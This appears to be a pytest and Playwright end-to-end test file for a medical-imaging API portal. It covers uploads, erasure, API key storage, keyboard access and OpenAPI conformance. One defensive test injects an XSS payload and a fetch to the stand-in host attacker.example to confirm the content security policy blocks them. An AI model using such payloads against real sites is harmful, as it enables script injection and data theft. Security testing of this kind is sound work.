"""The portal in a real browser, and the API's description beside what the API really answers."""

from __future__ import annotations

import re
import subprocess
import sys
from typing import TYPE_CHECKING, Any

import httpx
import pytest
from openapi_spec_validator import OpenAPIV31SpecValidator
from playwright.sync_api import Error as BrowserError
from playwright.sync_api import expect

from tests.conformance import conforms
from tests.e2e.browser import open_browser
from tests.e2e.test_http import Api, _jpeg_of_the_chest, chest, sample

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from playwright.sync_api import Browser, ConsoleMessage, Page

    from tests.e2e.conftest import Stack

__all__ = ["chest"]
PATIENT = 120_000  # milliseconds: the first call loads torch, on a machine that may be busy
expect.set_options(timeout=PATIENT)


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with open_browser() as browser:
        yield browser


@pytest.fixture
def page(browser: Browser, stack: Stack) -> Iterator[Page]:
    """Open the portal in a new profile; whatever the browser complains of fails the test."""
    context = browser.new_context()
    context.set_default_timeout(PATIENT)
    page = context.new_page()
    complaints: list[str] = []

    def hear(said: ConsoleMessage) -> None:
        # A refusal by the API is told here as well; the page tells it in its own words.
        refusal = "the server responded with a status of" in said.text
        if said.type in {"error", "warning"} and not refusal:
            complaints.append(said.text)

    page.on("console", hear)
    page.on("pageerror", lambda error: complaints.append(str(error)))
    page.goto(f"{stack.api_url}/")
    yield page
    context.close()
    assert complaints == []


@pytest.fixture(scope="module")
def jpeg(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("images") / "chest.jpg"
    _jpeg_of_the_chest(path)
    return path


def admit(stack: Stack, client_id: str, *options: str) -> str:
    """Create a client and return the secret of its one key."""
    stack.radgate.json(
        *("clients", "create", client_id, "--name", client_id.title()),
        *("--email", f"{client_id}@example.org", "--plan", "clinic"),
    )
    return str(stack.radgate.json("keys", "issue", client_id, *options)["secret"])


def enter(page: Page, key: str) -> None:
    page.get_by_label("API key").fill(key)
    page.get_by_role("button", name="Open", exact=True).click()


def rows(page: Page) -> Any:
    return page.locator(".study")


def test_a_client_sends_sees_and_erases_a_study(page: Page, stack: Stack, jpeg: Path) -> None:
    secret = admit(stack, "portal")
    api = Api(stack, secret)
    enter(page, secret)
    expect(page.get_by_role("heading", name="New study")).to_be_visible()
    expect(page.locator("#who")).to_have_text("Portal")
    expect(page.locator(".left")).to_have_text("2,000 of 2,000 studies left")
    expect(page.locator("#keys .tag")).to_have_text("this one")
    expect(page.get_by_text("No studies here.")).to_be_visible()

    page.get_by_label("Choose a file").set_input_files(jpeg)
    expect(page.locator("#names")).to_contain_text("chest.jpg")
    # What to do with it comes first: nothing is sent, or metered, before the button.
    page.get_by_role("button", name="Do not send").click()
    expect(page.get_by_role("button", name="Send", exact=True)).to_be_hidden()
    assert api.get("/studies").json()["items"] == []
    assert api.get("/account").json()["usage"]["used"] == 0
    page.get_by_label("Choose a file").set_input_files(jpeg)
    page.get_by_label("Analyse now").check()
    page.get_by_role("button", name="Send", exact=True).click()
    report = page.get_by_role("link", name="Open the report (PDF)")
    expect(report).to_be_visible()
    (study,) = api.get("/studies").json()["items"]
    row = rows(page)
    expect(row).to_have_count(1)
    expect(row.locator(".verdict")).to_have_text(study["label"])
    finding = study["findings"][0]
    expect(row.locator("tbody tr")).to_contain_text(
        "Positive" if finding["positive"] else "Negative"
    )
    expect(row.locator("tbody tr")).to_contain_text(f"{finding['probability']:.2f}")
    # The picture never left this page's memory; the heatmap came from the storage, and was shown.
    expect(row.locator(".picture")).to_have_attribute("src", re.compile("^blob:"))
    if study["heatmaps"]:
        page.wait_for_function("document.querySelector('.heat').naturalWidth > 0")
    expect(page.locator(".left")).to_have_text("1,999 of 2,000 studies left")

    pdf = httpx.get(str(report.get_attribute("href")))
    assert pdf.content.startswith(b"%PDF-")
    assert secret not in page.url

    page.get_by_role("button", name="Erase…").click()
    page.get_by_role("button", name="Keep it").click()
    assert api.get(f"/studies/{study['id']}").json()["status"] == "succeeded"
    page.get_by_role("button", name="Erase…").click()
    page.get_by_role("button", name="Erase", exact=True).click()
    expect(row.locator(".verdict")).to_have_text("Erased")
    assert api.get(f"/studies/{study['id']}").json()["status"] == "deleted"


def test_an_image_too_large_for_the_gateway_goes_by_way_of_the_storage(
    page: Page, stack: Stack, tmp_path: Path
) -> None:
    image = tmp_path / "large.dcm"
    image.write_bytes(sample("RG1_UNCI.dcm"))
    assert image.stat().st_size > 4_500_000
    secret = admit(stack, "large")
    enter(page, secret)
    page.get_by_label("Choose a file").set_input_files(image)
    expect(page.locator("#chosen")).to_contain_text("it is queued in any case")
    page.get_by_role("button", name="Send", exact=True).click()
    expect(page.locator("#progress")).to_have_text("large.dcm waits in the queue.")
    # Nobody reloads: the page asks until the worker is done.
    expect(page.get_by_role("link", name="Open the report (PDF)")).to_be_visible()
    (study,) = Api(stack, secret).get("/studies").json()["items"]
    assert study["image"]["format"] == "DICOM"


def test_what_is_wrong_is_said_in_plain_words(page: Page, stack: Stack) -> None:
    enter(page, "rgl" + "A" * 38)
    expect(page.locator("#door-problem")).to_contain_text("The API key is missing or unknown")
    enter(page, "not a key, but some text")
    expect(page.locator("#door-problem")).to_contain_text("letters and digits only")
    enter(page, admit(stack, "wrong"))
    letter = "d => (d.items.add(new File(['no image'], 'letter.txt')), d)"
    dropped = page.evaluate_handle("new DataTransfer()").evaluate_handle(letter)
    page.locator("#send").dispatch_event("drop", {"dataTransfer": dropped})
    expect(page.locator("#names")).to_contain_text("letter.txt")
    page.get_by_role("button", name="Send", exact=True).click()
    # At once, or, where no model was warm in time, as the study's own error after the queue.
    expect(page.locator("#desk .problem")).to_contain_text("The image format is not supported")
    expect(
        page.locator("#send-title + form, #send-problem").filter(has_text="letter.txt")
    ).to_be_visible()
    expect(page.locator(".left")).to_have_text("2,000 of 2,000 studies left")
    # A key that dies while the page is open leads back to the door, and nothing stays behind it.
    stack.radgate.json("clients", "suspend", "wrong")
    for _ in range(40):
        page.get_by_role("button", name="Reload").click()
        page.wait_for_timeout(1000)
        if page.locator("#door").is_visible():
            break
    expect(page.locator("#door-problem")).to_contain_text("The client is suspended")
    expect(page.locator("#who")).to_be_empty()


def test_a_key_without_all_scopes_sees_what_it_may(page: Page, stack: Stack) -> None:
    enter(page, admit(stack, "narrow", "--scope", "studies:read"))
    expect(page.locator("#account-problem")).to_contain_text("lacks the scope")
    expect(page.get_by_text("No studies here.")).to_be_visible()


def test_the_key_is_forgotten_unless_it_is_to_be_kept_in_the_tab(page: Page, stack: Stack) -> None:
    stored = "[localStorage.length, document.cookie.length, Object.values(sessionStorage)]"
    enter(page, stack.api_key)
    expect(page.locator("#desk")).to_be_visible()
    assert page.evaluate(stored) == [0, 0, []]
    page.reload()
    expect(page.locator("#door")).to_be_visible()
    page.get_by_label("Keep it in this tab").check()
    enter(page, stack.api_key)
    expect(page.locator("#desk")).to_be_visible()
    assert page.evaluate(stored) == [0, 0, [stack.api_key]]
    page.reload()
    expect(page.locator("#desk")).to_be_visible()
    page.get_by_role("button", name="Sign out").click()
    expect(page.locator("#door")).to_be_visible()
    assert page.evaluate(stored) == [0, 0, []]
    assert stack.api_key not in page.content()


def test_the_page_works_by_keyboard_alone(page: Page, stack: Stack, jpeg: Path) -> None:
    page.keyboard.press("Tab")
    expect(page.get_by_text("Skip to the content")).to_be_focused()
    page.get_by_label("API key").focus()
    page.keyboard.type(stack.api_key)
    page.keyboard.press("Enter")
    expect(page.locator("#desk")).to_be_visible()
    page.locator("#file").focus()
    expect(page.locator("#file")).to_be_focused()
    page.locator("#file").set_input_files(jpeg)
    page.keyboard.press("Tab")
    expect(page.get_by_label("Analyse now")).to_be_focused()
    page.keyboard.press("ArrowRight")
    expect(page.get_by_label("Queue it")).to_be_checked()
    page.keyboard.press("Tab")
    expect(page.get_by_role("button", name="Send", exact=True)).to_be_focused()


def test_the_page_works_without_the_slash_behind_the_stage(page: Page, stack: Stack) -> None:
    # As API Gateway serves it; on the local AWS only the address with the slash is a route.
    there = httpx.get(f"{stack.api_url}/")
    headers = {name: there.headers[name] for name in ("content-type", "content-security-policy")}
    page.route(stack.api_url, lambda route: route.fulfill(body=there.text, headers=headers))
    page.goto(stack.api_url)
    assert page.url == stack.api_url
    link = page.get_by_role("link", name="API reference")
    assert link.evaluate("a => a.href") == f"{stack.api_url}/docs"
    enter(page, stack.api_key)
    expect(page.locator("#desk")).to_be_visible()


def test_the_policy_stops_what_an_attacker_would_try(browser: Browser, stack: Stack) -> None:
    context = browser.new_context()
    page = context.new_page()
    page.goto(f"{stack.api_url}/")
    with pytest.raises(BrowserError):
        page.evaluate("document.body.innerHTML = '<img src=x onerror=alert(1)>'")
    foreign = "fetch('https://attacker.example/').then(() => 'sent', () => 'stopped')"
    assert page.evaluate(foreign) == "stopped"
    context.close()


def test_the_reference_needs_no_script_and_its_links_lead_below_the_stage(
    browser: Browser, stack: Stack
) -> None:
    context = browser.new_context(java_script_enabled=False)
    page = context.new_page()
    page.goto(f"{stack.api_url}/docs")
    expect(page.get_by_role("heading", name="Analyse an image now")).to_be_visible()
    page.get_by_role("link", name="not_found").first.click()
    expect(page.locator("#not_found")).to_be_in_viewport()
    link = page.get_by_role("link", name="the portal")
    assert link.evaluate("a => a.href") == f"{stack.api_url}/"
    context.close()


@pytest.fixture
def nobody(stack: Stack) -> Iterator[httpx.Client]:
    """Call without a key."""
    with httpx.Client(base_url=stack.api_url, timeout=120) as client:
        yield client


@pytest.fixture
def somebody(stack: Stack) -> Iterator[httpx.Client]:
    """Call with the demo client's key."""
    key = {"x-api-key": stack.api_key}
    with httpx.Client(base_url=stack.api_url, headers=key, timeout=120) as client:
        yield client


def test_every_answer_is_what_the_description_says(
    nobody: httpx.Client, somebody: httpx.Client, chest: bytes
) -> None:
    document = nobody.get("/openapi.json").json()
    assert list(OpenAPIV31SpecValidator(document).iter_errors()) == []

    def held(
        method: str, route: str, status: int, client: httpx.Client = somebody, **sent: Any
    ) -> httpx.Response:
        path = route.format(study_id=sent.pop("study_id", ""))
        answer = client.request(method, path, **sent)
        headers = {name.lower(): value for name, value in answer.headers.items()}
        conforms(method, route, answer.status_code, headers, answer.content)
        assert answer.status_code == status, answer.text
        return answer

    for route in ("/", "/docs", "/openapi.json", "/health", "/ready"):
        answer = held("GET", route, 200, client=nobody)
        if "etag" in answer.headers:
            known = {"If-None-Match": answer.headers["etag"]}
            held("GET", route, 304, client=nobody, headers=known)
            held("HEAD", route, 200, client=nobody)
    study_id = held("POST", "/xray", 200, content=chest).json()["id"]
    held("GET", "/studies/{study_id}", 200, study_id=study_id)
    held("GET", "/studies/{study_id}/report", 200, study_id=study_id)
    held("GET", "/studies", 200, params={"limit": "2"})
    held("GET", "/account", 200)
    held("GET", "/models", 200)
    form = {"size": len(chest), "content_type": "application/dicom"}
    upload_id = held("POST", "/uploads", 201, json=form).json()["upload_id"]
    held("POST", "/studies", 409, json={"upload_id": upload_id})
    queued = held("POST", "/studies", 202, content=chest).json()["id"]
    held("DELETE", "/studies/{study_id}", 204, study_id=queued)
    held("DELETE", "/studies/{study_id}", 204, study_id=study_id)
    held("GET", "/studies/{study_id}/report", 404, study_id=study_id)
    # What API Gateway itself refuses.
    held("GET", "/account", 403, client=nobody)
    held("GET", "/studies", 400, params={"limit": "0"})
    held("POST", "/xray", 415, content=b"no image")


def _bash(source: str, place: Path, environment: dict[str, str]) -> str:
    command = ["bash", "-euo", "pipefail", "-c", source.replace("curl ", "curl --silent ", 1)]
    return _run(command, place, environment)


def _python(source: str, place: Path, environment: dict[str, str]) -> str:
    return _run([sys.executable, "-c", source], place, environment)


def _run(command: list[str], place: Path, environment: dict[str, str]) -> str:
    done = subprocess.run(
        command,
        cwd=place,
        env=environment,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stderr + done.stdout
    return done.stdout


def test_the_samples_of_the_reference_run_as_they_stand(
    stack: Stack, chest: bytes, tmp_path: Path
) -> None:
    api = Api(stack, stack.api_key)
    (tmp_path / "chest.dcm").write_bytes(chest)
    document = httpx.get(f"{stack.api_url}/openapi.json").json()
    run: dict[str, Callable[[str, Path, dict[str, str]], str]] = {
        "curl": _bash,
        "Python": _python,
    }
    for route in ("/xray", "/studies", "/uploads"):
        for sample_ in document["paths"][route]["post"]["x-codeSamples"]:
            study = api.get("/studies", status="succeeded").json()["items"]
            known = {"STUDY": study[0]["id"]} if study else {}
            own = {"API": stack.api_url, "KEY": stack.api_key, "PATH": "/usr/bin:/bin", **known}
            said = run[sample_["label"]](sample_["source"], tmp_path, own)
            assert re.search(r"st_|up_", said), sample_["source"]
    study_id = api.post(chest).json()["id"]
    own = {"API": stack.api_url, "KEY": stack.api_key, "PATH": "/usr/bin:/bin", "STUDY": study_id}
    for route in ("/studies", "/studies/{study_id}", "/studies/{study_id}/report", "/account"):
        for sample_ in document["paths"][route]["get"]["x-codeSamples"]:
            assert run[sample_["label"]](sample_["source"], tmp_path, own).strip()
